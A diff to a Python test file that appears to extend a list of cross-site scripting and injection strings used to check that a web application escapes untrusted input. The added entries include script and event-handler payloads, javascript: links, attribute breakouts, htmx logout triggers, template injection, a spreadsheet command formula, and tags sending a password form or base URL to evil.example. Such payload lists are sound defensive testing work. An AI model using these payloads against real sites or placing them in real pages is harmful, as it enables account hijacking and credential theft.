@@ -41,6 +41,7 @@ from tests.builders import (
 from training.models import Evaluation, Metric, TrainingRun
 
 # Each would do harm in some place: an element, an attribute, a script, an address, a template.
+# What becomes an element or an attribute is known by the name xss-probe.
 ATTACKS = (
     "<xss-probe onload=alert(1)>",
     "<script>alert('xss')</script>",
@@ -58,6 +59,25 @@ ATTACKS = (
     "\u202egnp.exe\u202c\u200b\ufeff",
     "=cmd|'/c calc'!A1",
     "http://evil.example/?<svg/onload=alert(8)>",
+    "<ScRiPt xss-probe>alert(9)</sCrIpT>",
+    "<svg><xss-probe/onload=alert(10)><animate xss-probe onbegin=alert(10) attributeName=x>",
+    "<iframe xss-probe srcdoc='<script>alert(11)</script>'></iframe>",
+    "<noscript><p title='</noscript><img xss-probe src=x onerror=alert(12)>'>",
+    "<math><mi xss-probe xlink:href='data:text/html,<script>alert(13)</script>'>x</mi></math>",
+    "<details xss-probe open ontoggle=alert(14)>",
+    "<a xss-probe href='java\tscript:alert(15)'>x</a>",
+    "<style xss-probe>@import'http://evil.example/x.css';</style>",
+    "<meta xss-probe http-equiv=refresh content='0;url=javascript:alert(16)'>",
+    "<base xss-probe href=//evil.example/>",
+    "<form xss-probe action=http://evil.example/><input name=password>",
+    "<template xss-probe><p hx-get=/logout/ hx-trigger=load hx-on::load=alert(17)></template>",
+    '" xss-probe hx-get="/logout/" hx-trigger="load" x="',
+    "' xss-probe style='position:fixed' x='",
+    "` xss-probe onclick=alert(18) `",
+    "![a](javascript:alert(19)) <javascript:alert(20)> [b]: data:text/html,x",
+    "\\u003cxss-probe\\u003e \\x3cxss-probe\\x3e %3Cxss-probe%3E \uff1cxss-probe\uff1e",
+    "<![CDATA[<xss-probe>]]> <!--><xss-probe>--> <?xml <xss-probe>?>",
+    "{{constructor.constructor('alert(21)')()}}",
 )
 WORD = "W" * 3_000
 ALL = " ".join(ATTACKS)
